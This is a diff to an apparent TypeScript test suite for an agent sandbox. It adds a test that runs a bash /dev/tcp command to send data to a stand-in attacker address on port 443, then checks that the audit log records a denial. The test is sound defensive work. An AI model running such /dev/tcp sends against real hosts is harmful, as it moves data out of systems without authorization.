@@ -103,6 +103,14 @@ const evilIsRefused = async (t: Test, { lab, run, isolation }: Bench) => {
 }
 
 /** While a jail runs, another user does what that user could do before. */
+/** It is over before its gate would start: what waits at the gate's sockets starts it, and is judged and told. */
+const lastWordIsTold = async (t: Test, { lab, run }: Bench) => {
+  const known = (await auditRecords(lab)).length
+  await run(['bash', '-c', `echo x > /dev/tcp/${evil.v4}/443`])
+  const records = (await auditRecords(lab)).slice(known)
+  t.match(records, [{ verdict: 'deny', port: 443 }])
+}
+
 const othersUntouched = async (t: Test, { lab, prefix }: Bench) => {
   const jail = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', 'echo started; exec sleep 30'])
   await jail.until(/started/)
@@ -333,6 +341,7 @@ for (const isolation of isolations) {
     await t.test('bad input changes nothing', { timeout }, (t) => badInput(t, bench))
     await t.test('the example bot completes', { timeout }, (t) => bot(t, bench))
     await t.test('the attacker is refused at once', { timeout }, (t) => evilIsRefused(t, bench))
+    await t.test('the last word is told', { timeout }, (t) => lastWordIsTold(t, bench))
     await t.test('other users notice nothing', { timeout }, (t) => othersUntouched(t, bench))
     await t.test('usual programs behave', { timeout }, (t) => toolsBehave(t, bench))
     await t.test('an address that changes is followed', { timeout }, (t) => dnsIsFollowed(t, bench))
